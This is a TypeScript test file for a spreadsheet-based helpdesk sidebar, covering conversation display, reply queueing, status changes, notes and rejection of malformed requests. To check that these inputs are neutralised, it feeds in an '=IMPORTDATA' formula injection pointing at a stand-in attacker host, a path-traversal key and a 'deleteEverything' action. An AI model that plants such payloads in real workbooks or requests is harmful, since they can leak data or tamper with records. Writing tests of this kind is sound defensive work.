import { ANSWER_PLACE, type Conversation, type SidebarAnswer } from '../../apps-script/sidebar/contract';
import type { TicketStatus } from '../../core/workbook/choices';
import { SHEET_ID } from '../../core/workbook/columns';
import { STORY_TICKET, tellStory } from './support/believable';
import { ANNA, type Desk, newTicket, openDesk } from './support/desk';
import { call, NOWHERE, value } from './support/sidebar-call';

const KEY = '0123456789abcdef0123456789abcdef';

const reply = {
  key: KEY,
  ticketId: STORY_TICKET,
  text: 'Please reload the page.',
  template: '',
  resolve: false,
  to: 'requester',
} as const;

function storyDesk(): Desk {
  const desk = openDesk();
  tellStory(desk, 'en');
  return desk;
}

describe('conversation', () => {
  const desk = storyDesk();
  const shown = (selection = NOWHERE, ticketId: string | null = STORY_TICKET): Conversation =>
    value(call(desk, 'conversation', { ticketId }, { selection }));

  test('shows the ticket, its messages in order and what is due', () => {
    const conversation = shown();
    expect(conversation).toMatchObject({
      ticketId: STORY_TICKET,
      requester: 'Priya Natarajan',
      status: 'open',
      slaState: 'running',
      session: 'Leading remote meetings, Mon 23 Nov, 11:30',
    });
    expect(conversation.messages.map(({ direction, who }) => [direction, who])).toEqual([
      ['in', 'Priya Natarajan'],
      ['out', 'Anna Zielińska'],
      ['note', 'Anna Zielińska'],
      ['in', 'Priya Natarajan'],
    ]);
    expect(conversation.dues[0]).toEqual({ label: 'Answer by', when: 'Mon 23 Nov, 10:45' });
    expect(conversation.dueReason).toContain('15 minutes');
  });

  test('folds what a mail quotes and names its files', () => {
    const [first] = shown().messages;
    expect(first?.text).toMatch(/^Good morning,/);
    expect(first?.text).not.toContain('> Please check');
    expect(first?.folded).toContain('> Please check');
    expect(first?.attachments).toEqual(['screenshot.png']);
  });

  test('is that of the selected row, on Tickets and on Messages', () => {
    const { rowIndex } = desk.ticket('T-2M8FD');
    expect(shown({ sheetId: SHEET_ID.tickets, row: rowIndex + 1, column: 5 }, null).ticketId).toBe('T-2M8FD');
    expect(shown({ sheetId: SHEET_ID.messages, row: 3, column: 1 }, null).ticketId).toBe(STORY_TICKET);
  });

  test.each([
    ['the heading', { sheetId: SHEET_ID.tickets, row: 2, column: 1 }],
    ['an empty row', { sheetId: SHEET_ID.tickets, row: 900, column: 1 }],
    ['a tab without tickets', { sheetId: SHEET_ID.settings, row: 5, column: 1 }],
  ])('asks for a row when %s is selected', (_, selection) => {
    expect(call(desk, 'conversation', { ticketId: null }, { selection })).toMatchObject({
      ok: false,
      language: 'en',
      refusal: 'no-ticket-selected',
    });
    expect(value(call(desk, 'look', { shown: null, does: 'reads' }, { selection }))).toMatchObject({
      ticketId: null,
    });
  });

  test('offers forms of a mail, not Rowdesk’s own letters, and the firm’s own texts to insert', () => {
    desk.append('templates', [
      {
        key: 'cables',
        language: 'en',
        audience: 'any',
        subject: '',
        body: 'Dear {{ person.name }}, unplug it.',
      },
    ]);
    const { templates } = shown();
    expect(templates.map(({ key, use }) => [key, use])).toEqual([
      ['', 'form'],
      ['calm', 'form'],
      ['clarify', 'form'],
      ['reconcile', 'form'],
      ['cables', 'insert'],
    ]);
    expect(templates[4]).toMatchObject({ text: 'Dear Priya Natarajan, unplug it.' });
  });
});

describe('queueReply', () => {
  test('puts one mail into the Outbox, in the participant’s language, with the ticket in the subject', () => {
    const desk = openDesk();
    const story = tellStory(desk, 'uk');
    expect(value(call(desk, 'queueReply', reply))).toEqual({ queued: 'now', cases: 0, skipped: [] });
    const outbox = desk.rows('outbox');
    expect(outbox).toHaveLength(1);
    expect(outbox[0]).toMatchObject({
      key: `reply:${KEY}`,
      kind: 'reply',
      ticket_id: STORY_TICKET,
      to: story.email,
      subject: `Re: ${story.subject} [#${STORY_TICKET}]`,
      language: 'uk',
      state: 'queued',
      created_by: ANNA.email,
      template: 'reply',
    });
    expect(outbox[0]?.body).toMatch(/^Please reload the page\.\n/);
    expect(outbox[0]?.body).toContain('Потрібна допомога?');
  });

  test.each([
    [false, 'Waiting for your reply'],
    [true, 'Resolved'],
  ])('tells how the request stands once the answer is there (settled: %s): %s', (resolve, status) => {
    const desk = openDesk();
    tellStory(desk, 'en');
    call(desk, 'queueReply', { ...reply, resolve });
    expect(desk.rows('outbox')[0]?.body).toContain(`${STORY_TICKET}: ${status}.`);
  });

  test.each(['', 'calm'])('sends what the form “%s” shows around the answer', (template) => {
    const desk = storyDesk();
    const { templates } = value(call(desk, 'conversation', { ticketId: STORY_TICKET }));
    const form = templates.find(({ use, key }) => use === 'form' && key === template);
    call(desk, 'queueReply', { ...reply, template });
    const [mail] = desk.rows('outbox');
    expect(form).toMatchObject({ subject: mail?.subject });
    expect(form?.use === 'form' && form.body.replace(ANSWER_PLACE, reply.text)).toBe(mail?.body);
  });

  test('queues once for a double click', () => {
    const desk = storyDesk();
    call(desk, 'queueReply', reply);
    expect(value(call(desk, 'queueReply', reply))).toMatchObject({ queued: 'already' });
    expect(desk.rows('outbox')).toHaveLength(1);
  });

  test('queues once when the second click arrives while the first is still at work', () => {
    const desk = storyDesk();
    const answers: SidebarAnswer<'queueReply'>[] = [];
    desk.onCall = ({ name }) => {
      if (name !== 'Sheets.Spreadsheets.batchUpdate') return;
      desk.onCall = () => undefined;
      answers.push(call(desk, 'queueReply', reply));
    };
    answers.push(call(desk, 'queueReply', reply));
    expect(desk.rows('outbox')).toHaveLength(1);
    expect(answers).toEqual([
      expect.objectContaining({ ok: false, refusal: 'busy' }),
      expect.objectContaining({ ok: true, value: { queued: 'now', cases: 0, skipped: [] } }),
    ]);
  });

  test('with “resolve” sets the status too, and History names the person', () => {
    const desk = storyDesk();
    call(desk, 'queueReply', { ...reply, resolve: true });
    expect(desk.rows('outbox')).toEqual([expect.objectContaining({ kind: 'resolved', template: 'reply' })]);
    expect(desk.ticket(STORY_TICKET).row).toMatchObject({ status: 'resolved', status_seen: 'resolved' });
    const history = desk.rows('history');
    expect(history[history.length - 1]).toMatchObject({
      who: ANNA.email,
      from: 'Open',
      to: 'Resolved',
      ticket_id: STORY_TICKET,
    });
    // The next tick agrees.
    desk.host.run('tick');
    expect(desk.rows('history')).toHaveLength(history.length);
  });

  test('resolves without a further word by the firm’s own letter', () => {
    const desk = storyDesk();
    call(desk, 'queueReply', { ...reply, text: '', resolve: true });
    const [mail] = desk.rows('outbox');
    expect(mail).toMatchObject({ kind: 'resolved', template: 'resolved' });
    expect(mail?.subject).toContain(`[#${STORY_TICKET}]`);
  });

  test('keeps text that looks like a formula or like Liquid as it is', () => {
    const desk = storyDesk();
    const text = '=IMPORTDATA("https://evil.example") and {{ ticket.id }}';
    call(desk, 'queueReply', { ...reply, text });
    const { sheets } = desk.service.get(desk.spreadsheetId, { includeGridData: true });
    const row = sheets?.find(({ properties }) => properties?.sheetId === SHEET_ID.outbox)?.data?.[0]
      ?.rowData?.[2];
    const body = row?.values?.find(({ userEnteredValue }) => userEnteredValue?.stringValue?.startsWith('='));
    expect(body?.userEnteredValue?.stringValue).toContain(text);
  });

  test.each([
    [
      'an address that nobody can write to',
      { requester_email: 'olena(at)client' },
      {},
      'address-invalid',
      'olena(at)client',
    ],
    ['no address', { requester_email: '' }, {}, 'address-invalid', ''],
    ['nothing written', {}, { text: ' \n ' }, 'text-empty', ''],
    ['a text longer than a cell', {}, { text: 'x'.repeat(49_001) }, 'text-too-long', '49000'],
    ['a ticket that is gone', {}, { ticketId: 'T-GONE1' }, 'ticket-gone', 'T-GONE1'],
    ['a template that is not there', {}, { template: 'nonsense' }, 'template-broken', 'nonsense'],
  ] as const)('refuses %s', (_, change, wish, refusal, detail) => {
    const desk = storyDesk();
    desk.update(STORY_TICKET, change);
    expect(call(desk, 'queueReply', { ...reply, ...wish })).toMatchObject({ ok: false, refusal, detail });
    expect(desk.rows('outbox')).toEqual([]);
  });

  test('refuses a ticket that stands in two rows', () => {
    const desk = storyDesk();
    desk.append('tickets', [newTicket(STORY_TICKET)]);
    expect(call(desk, 'queueReply', reply)).toMatchObject({ refusal: 'ticket-doubled' });
  });

  test('refuses a template that cannot be read, and says what is wrong with it', () => {
    const desk = storyDesk();
    desk.append('templates', [
      { key: 'mine', language: 'en', audience: 'any', subject: 'x', body: '{{ answer' },
    ]);
    const answer = call(desk, 'queueReply', { ...reply, template: 'mine' });
    expect(answer).toMatchObject({
      refusal: 'template-broken',
      detail: expect.stringContaining('“mine” cannot be read'),
    });
  });
});

function setStatus(desk: Desk, to: TicketStatus): SidebarAnswer<'setCell'> {
  return call(desk, 'setCell', { ticketId: STORY_TICKET, wish: { column: 'status', to } });
}

describe('setCell', () => {
  test('moves the ticket at once, with its clocks and History', () => {
    const desk = storyDesk();
    setStatus(desk, 'waiting_vendor');
    expect(desk.ticket(STORY_TICKET).row).toMatchObject({ status: 'waiting_vendor', sla_state: 'paused' });
    expect(desk.rows('history').slice(-1)).toEqual([
      expect.objectContaining({ who: ANNA.email, to: 'Waiting for vendor' }),
    ]);
  });

  test('refuses what the rules refuse, in their words', () => {
    const desk = storyDesk();
    setStatus(desk, 'closed');
    const answer = setStatus(desk, 'on_hold');
    expect(answer).toMatchObject({
      refusal: 'status-refused',
      detail: expect.stringContaining('Open it first'),
    });
    expect(desk.ticket(STORY_TICKET).row.status).toBe('closed');
  });
});

describe('addNote', () => {
  test('adds one internal note for a double click, and sends nothing', () => {
    const desk = storyDesk();
    const note = { key: KEY, ticketId: STORY_TICKET, text: 'Call the vendor.' };
    expect(value(call(desk, 'addNote', note))).toEqual({ added: 'now' });
    expect(value(call(desk, 'addNote', note))).toEqual({ added: 'already' });
    const notes = desk.rows('messages').filter(({ id }) => id === `note:${KEY}`);
    expect(notes).toEqual([
      expect.objectContaining({ direction: 'note', from: ANNA.email, text: 'Call the vendor.' }),
    ]);
    expect(desk.rows('outbox')).toEqual([]);
  });
});

describe('the one door', () => {
  test.each([
    [null],
    ['queueReply'],
    [{ action: 'toString' }],
    [{ action: 'deleteEverything' }],
    [{ action: 'queueReply', ticketId: STORY_TICKET }],
    [{ action: 'queueReply', ...reply, key: '../../x' }],
    [{ action: 'setCell', ticketId: STORY_TICKET, wish: { column: 'status', to: 'gone' } }],
    [{ action: 'setCell', ticketId: STORY_TICKET, wish: { column: 'id', to: 'T-99999' } }],
  ])('does not open to %j', (request) => {
    const { returned } = openDesk().host.runFromPage(ANNA, 'sidebarCall', [request], NOWHERE);
    expect(returned).toMatchObject({ ok: false, refusal: 'unknown-request' });
  });

  test('says when the workbook lacks a tab', () => {
    const desk = storyDesk();
    desk.service.batchUpdate(desk.spreadsheetId, {
      requests: [{ deleteSheet: { sheetId: SHEET_ID.outbox } }],
    });
    expect(call(desk, 'queueReply', reply)).toMatchObject({ ok: false, refusal: 'not-set-up' });
  });
});
